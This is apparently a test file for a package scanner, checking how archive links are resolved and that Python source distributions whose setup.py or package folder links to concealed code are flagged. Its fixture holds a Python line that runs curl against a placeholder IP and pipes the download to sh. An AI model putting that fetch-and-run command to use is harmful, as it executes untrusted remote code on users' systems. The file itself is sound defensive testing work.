import { gzip, type TarEntry, tar } from "@packhouse/fixtures/archive-writing";
import { cpuMs, standardMs } from "@packhouse/fixtures/cpu-time";
import { bytesOf } from "@packhouse/formats/byte-source";
import { describe, expect, test } from "vitest";
import { inspect } from "../inspect.ts";
import { readText } from "../member-text.ts";
import { packed } from "../testing/packages.ts";
import { Links } from "./links.ts";

const linksOf = (targets: Readonly<Record<string, string>>): Links => {
  const links = new Links();
  for (const [path, target] of Object.entries(targets)) links.add(path, target);
  return links;
};
const pathsOf = (targets: Readonly<Record<string, string>>, files: readonly string[], most = 100) =>
  linksOf(targets)
    .linkedFiles(files, most)
    .linked.map(({ path, file }) => `${path} → ${file}`)
    .sort();

describe("the paths that lead to files through links", () => {
  test.each<[string, Readonly<Record<string, string>>, string[], string[]]>([
    ["a link", { "setup.py": "docs/notes.txt" }, ["docs/notes.txt"], ["setup.py → docs/notes.txt"]],
    ["a link to a link", { a: "b", b: "c" }, ["c"], ["a → c", "b → c"]],
    ["a folder", { R: "inst/code" }, ["inst/code/a.R", "inst/b.R"], ["R/a.R → inst/code/a.R"]],
    ["a link below a folder", { R: "inst", "inst/a.R": "notes" }, ["notes"], ["R/a.R → notes", "inst/a.R → notes"]],
    ["a folder through a folder", { R: "x/y", x: "z" }, ["z/y/a.R"], ["R/a.R → z/y/a.R", "x/y/a.R → z/y/a.R"]],
    ["the top-level folder", { R: "" }, ["a.R"], ["R/a.R → a.R"]],
    ["nothing", { a: "gone" }, ["b"], []],
    ["each other", { a: "b", b: "a" }, ["c"], []],
    ["what is below itself", { a: "a/b" }, ["c"], []],
  ])("are found for %s", (_, targets, files, expected) => {
    expect(pathsOf(targets, files)).toEqual(expected);
  });

  test("end where a folder contains itself", () => {
    expect(pathsOf({ "docs/all": "" }, ["setup.py"])).toEqual(["docs/all/setup.py → setup.py"]);
  });

  test("are bounded where links lead to each other in every order", () => {
    const targets = Object.fromEntries(Array.from({ length: 2000 }, (_, index) => [`d/l${index}`, "d"]));
    const start = cpuMs();
    expect(linksOf(targets).linkedFiles(["d/a.py"], 20_000).isComplete).toBe(false);
    expect(standardMs(cpuMs() - start)).toBeLessThan(5000);
  });
});

const code = "import os\nos.system('curl -s http://203.0.113.7/x | sh')\n";
const file = (name: string, text: string): TarEntry => ({ name: `tides-1.0.0/${name}`, bytes: Buffer.from(text) });
const link = (name: string, target: string, type: "symlink" | "link" = "symlink"): TarEntry => ({
  name: `tides-1.0.0/${name}`,
  type,
  linkname: target,
});
const metadata = file("PKG-INFO", "Metadata-Version: 2.4\nName: tides\nVersion: 1.0.0\n");
const sdist = async (...entries: TarEntry[]) => ({
  technology: "Python" as const,
  kind: "source" as const,
  fileName: "tides-1.0.0.tar.gz",
  source: bytesOf(gzip(await tar([metadata, ...entries], packed))),
});
const signalsOf = async ({ source, ...what }: Awaited<ReturnType<typeof sdist>>) =>
  (await inspect(source, what)).signals.map(({ id, level, file }) => `${level} ${id} ${file}`);

describe("a link in an archive", () => {
  test.each<[string, TarEntry[]]>([
    ["a symbolic link", [file("docs/notes.txt", code), link("setup.py", "docs/notes.txt")]],
    ["a symbolic link that comes first", [link("setup.py", "./docs/notes.txt"), file("docs/notes.txt", code)]],
    ["a hard link", [file("docs/notes.txt", code), link("setup.py", "tides-1.0.0/docs/notes.txt", "link")]],
    ["links in a row", [file("notes.txt", code), link("docs/a", "../notes.txt"), link("setup.py", "docs/a")]],
  ])("is read where code is expected: %s", async (_, entries) => {
    const found = await signalsOf(await sdist(...entries));
    expect(found).toEqual(
      expect.arrayContaining(["danger linked-code setup.py", expect.stringContaining("process setup.py")]),
    );
  });

  test("to a folder is read with the code in it", async () => {
    const found = await signalsOf(await sdist(file("docs/all/__init__.py", code), link("tides", "docs/all")));
    expect(found).toEqual(
      expect.arrayContaining([
        "warning linked-code tides",
        expect.stringContaining("py-import-time-call tides/__init__"),
      ]),
    );
  });

  test("that leads to no code is no news", async () => {
    const found = await signalsOf(await sdist(file("docs/readme.md", "Tides"), link("README.md", "docs/readme.md")));
    expect(found).toEqual([]);
  });

  test("that serves the tests is a notice", async () => {
    const found = await signalsOf(await sdist(file("tides.py", "low = 1\n"), link("tests/tides.py", "../tides.py")));
    expect(found).toEqual(["notice linked-code tests/tides.py"]);
  });

  test("is shown with what it leads to", async () => {
    const { source, fileName } = await sdist(link("setup.py", "docs/notes.txt"), file("docs/notes.txt", code));
    expect(await readText({ source, fileName }, "setup.py")).toBe(code);
  });
});

test("files of one path below two folders are two files", async () => {
  const outside: TarEntry = { name: "setup.py", bytes: Buffer.from(code) };
  const { source, ...what } = await sdist(outside, file("setup.py", "low = 1\n"));
  const { files } = await inspect(source, what);
  expect(files.map(({ path }) => path)).toEqual(["PKG-INFO", "../setup.py", "setup.py"]);
});
